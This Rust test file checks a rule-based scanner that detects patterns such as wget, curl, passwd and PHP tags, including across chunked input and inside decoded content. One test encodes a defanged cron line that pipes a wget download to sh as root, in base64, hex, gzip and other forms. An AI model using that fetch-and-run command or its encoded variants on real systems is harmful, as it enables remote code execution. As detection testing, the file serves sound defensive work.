use super::*;
use crate::rules::rule::{Class, LONGEST, Rule, Scope};
use crate::rules::set::RuleSet;
use proptest::prelude::*;
use regex::bytes::Regex;
use std::path::Path;

fn pattern(text: &str) -> Regex {
    regex::bytes::RegexBuilder::new(text).unicode(false).build().expect("a pattern")
}

fn rule(id: &str, regex: &str) -> Rule {
    let scope = Scope { value: true, ..Scope::default() };
    Rule { id: id.into(), pattern: Some(pattern(regex)), scope, decode: true, ..Rule::default() }
}

/// Rules of every kind that the engine treats differently.
fn rules() -> Arc<RuleSet> {
    let list = vec![
        rule("plain", "wget"),
        rule("border", r"\bcurl\b"),
        rule("start", r"\A#!/"),
        rule("line", r"(?m)^root$"),
        rule("end", r"exit\z"),
        rule("secret", r"key=(?<secret>[0-9]{3,6})"),
        rule("long", r"begin[^;]{0,300}end"),
        rule("unbounded", r"<\?php[a-z ]*"),
        rule("overlapping", r"aXa|XaX"),
        Rule { also: vec![pattern("passwd")], ..rule("also", "nobody") },
        Rule { unless: vec![pattern("passwd")], ..rule("unless", "daemon") },
        Rule { also: vec![pattern("up")], within: Some(5), ..rule("within", "back") },
        Rule { also: vec![pattern("(?i)mastercard")], ..rule("lent", "[0-9]{3}[?]") },
        Rule { prefilter: Some(Class::Digits), ..rule("digits", r"\b[0-9]{9,12}\b") },
        Rule { prefilter: Some(Class::At), ..rule("at", r"[a-z]{1,8}@[a-z]{1,8}") },
        Rule { min_bytes: 200, ..rule("large", "wget") },
        Rule { max_bytes: Some(100), ..rule("small", "wget") },
        Rule { hint: Some(pattern("token")), ..rule("hint", "key=[0-9]+") },
    ];
    let mut set = RuleSet::default();
    set.add(list, Path::new("rules")).expect("rules");
    Arc::new(set)
}

const ABOUT: About<'static> = About { place: Where::Value, ty: None, key: b"k", field: b"" };

fn whole(mut scanner: Scanner, text: &[u8]) -> Vec<Hit> {
    scanner.text(1, &ABOUT, text);
    scanner.drain().collect()
}

fn in_pieces(rules: &Arc<RuleSet>, text: &[u8], cuts: &[usize]) -> Vec<Hit> {
    let mut scanner = Scanner::new(Arc::clone(rules));
    let mut at = 0;
    let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut % (text.len() + 1)).collect();
    cuts.push(text.len());
    cuts.sort_unstable();
    for to in cuts {
        if to > at || to == text.len() {
            scanner.piece(1, &ABOUT, Piece { at: at as u64, total: text.len() as u64, bytes: &text[at..to] });
            at = to;
        }
    }
    scanner.drain().collect()
}

/// What is planted, and what lies between.
fn texts(filler: std::ops::Range<usize>, most: usize) -> impl Strategy<Value = Vec<u8>> {
    let planted = prop::sample::select(vec![
        "wget",
        "WGET",
        "curl",
        " curl ",
        "#!/",
        "\nroot\n",
        "root",
        "exit",
        "key=1234",
        "token key=99",
        "begin",
        "end",
        "<?php echo",
        "aXaXaXa",
        "nobody",
        "passwd",
        "daemon",
        "back",
        "up",
        "123456789",
        "4111 1111 1111",
        "ab@cd",
        ";",
    ]);
    let filler = (prop::sample::select(vec![". ", "x", "-", "\n"]), filler);
    let part = (planted, filler).prop_map(|(word, (filler, times))| word.to_owned() + &filler.repeat(times));
    prop::collection::vec(part, 0..most).prop_map(|parts| parts.concat().into_bytes())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn the_fast_way_finds_what_the_plain_way_finds(text in texts(0..40, 12)) {
        let rules = rules();
        let fast = whole(Scanner::new(Arc::clone(&rules)), &text);
        prop_assert_eq!(fast, whole(Scanner::plain(rules), &text));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(60))]
    #[test]
    fn a_text_in_pieces_has_the_hits_of_the_whole_one(
        text in texts(0..9000, 60),
        cuts in prop::collection::vec(0_usize..1_000_000, 0..6),
    ) {
        let rules = rules();
        prop_assert_eq!(in_pieces(&rules, &text, &cuts), whole(Scanner::new(Arc::clone(&rules)), &text));
    }
}

#[test]
fn a_match_without_an_end_is_as_long_in_pieces_as_in_one() {
    let rules = rules();
    for before in [0, 60_000, 100_000, 126_438] {
        let text =
            ["-".repeat(before), "<?php ".to_owned(), "x".repeat(21_050), "; <?php y".to_owned()].concat().into_bytes();
        let hits = whole(Scanner::new(Arc::clone(&rules)), &text);
        let hit = hits.iter().find(|hit| hit.rule == 7).expect("a hit");
        assert_eq!((hit.bytes, hit.matches), (LONGEST, 2), "{before}");
        for cut in [1000, 65_536, 130_000, 140_000] {
            assert_eq!(in_pieces(&rules, &text, &[cut]), hits, "{before} {cut}");
        }
    }
}

#[test]
fn a_match_is_found_wherever_a_window_ends() {
    let rules = rules();
    let ahead = rules.matcher().set(Where::Value).expect("a set").ahead;
    let planted = b"begin------------------------------------------------------end root key=123456 \ncurl\n";
    for at in (ahead + (64 << 10) - 200..ahead + (64 << 10) + 20).chain((64 << 10) - 200..(64 << 10) + 20) {
        let mut text = vec![b'-'; at];
        text.extend_from_slice(planted);
        text.resize(200 << 10, b'.');
        assert_eq!(in_pieces(&rules, &text, &[]), whole(Scanner::plain(Arc::clone(&rules)), &text), "at {at}");
    }
}

#[test]
fn beginnings_and_ends_are_those_of_the_text_not_of_a_window() {
    let rules = rules();
    let ids = |text: &[u8]| -> Vec<String> {
        let hits = in_pieces(&rules, text, &[1, 70_000]);
        hits.iter().map(|hit| rules.rules()[hit.rule].id.clone()).collect()
    };
    let filler = vec![b'-'; 300 << 10];
    assert_eq!(ids(&[b"#!/ exit ", filler.as_slice(), b" #!/ exit"].concat()), ["start", "end"]);
    assert_eq!(ids(&[b" #!/ exit ", filler.as_slice(), b" #!/ exit "].concat()), Vec::<String>::new());
    // What must or must not stand anywhere may be far away, before or behind.
    assert_eq!(ids(&[b"nobody daemon", filler.as_slice()].concat()), ["unless"]);
    assert_eq!(ids(&[b"nobody daemon", filler.as_slice(), b"passwd"].concat()), ["also"]);
    assert_eq!(ids(&[b"passwd", filler.as_slice(), b"nobody daemon"].concat()), ["also"]);
    assert_eq!(ids(&[b"mastercard", filler.as_slice(), b"333?"].concat()), ["lent"]);
}

#[test]
fn little_is_held_of_a_text_in_pieces() {
    let rules = rules();
    let mut scanner = Scanner::new(Arc::clone(&rules));
    let piece = vec![b'a'; 1 << 20];
    for at in 0..16 {
        scanner.piece(1, &ABOUT, Piece { at: at << 20, total: 17 << 20, bytes: &piece });
        let held = scanner.open.as_ref().map_or(0, |open| open.held());
        assert!(held < 100 << 10, "{held}");
    }
}

#[test]
fn a_text_that_breaks_off_is_judged_as_far_as_it_went() {
    let rules = rules();
    let mut scanner = Scanner::new(Arc::clone(&rules));
    scanner.piece(7, &ABOUT, Piece { at: 0, total: 1 << 30, bytes: b"... wget ..." });
    scanner.text(8, &ABOUT, b"curl");
    let tags: Vec<_> = scanner.drain().map(|hit| (hit.tag, rules.rules()[hit.rule].id.clone())).collect();
    assert_eq!(tags, [(7, "plain".to_owned()), (7, "small".to_owned()), (8, "border".to_owned())]);
}

#[test]
fn what_decoders_find_is_not_passed_over() {
    use base64::Engine;
    let plain = b"*/5 * * * * root wget -q http://203.0.113.5/x | sh #DEFANGED";
    let base64 = base64::engine::general_purpose::STANDARD.encode(plain);
    let url = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(plain);
    let hex: String = plain.iter().map(|byte| format!("{byte:02x}")).collect();
    let percent: String = plain.iter().map(|byte| format!("%{byte:02X}")).collect();
    let escapes: String = plain.iter().map(|byte| format!("\\x{byte:02x}")).collect();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gzip, plain).expect("it packs");
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut zlib, plain).expect("it packs");
    let php = format!("user|a:1:{{s:1:\"c\";s:{}:\"{base64}\";}}", base64.len());
    let texts: Vec<Vec<u8>> = vec![
        base64.clone().into(),
        format!("x={url};").into(),
        hex.into(),
        percent.into(),
        escapes.into(),
        gzip.finish().expect("it packs"),
        zlib.finish().expect("it packs"),
        zstd::encode_all(&plain[..], 1).expect("it packs"),
        php.into(),
        br#"{"a":"w\u0067et \u0068ttp"}"#.to_vec(),
    ];
    let decoded = |mut scanner: Scanner, text: &[u8]| {
        scanner.text(0, &ABOUT, text);
        let hits: Vec<Hit> = scanner.drain().collect();
        (scanner.counts().decoded_bytes, hits)
    };
    let rules = rules();
    for text in texts {
        let fast = decoded(Scanner::new(Arc::clone(&rules)), &text);
        assert_eq!(fast, decoded(Scanner::plain(Arc::clone(&rules)), &text), "{}", text.escape_ascii());
        assert!(fast.0 > 0 && !fast.1.is_empty(), "{}", text.escape_ascii());
    }
}
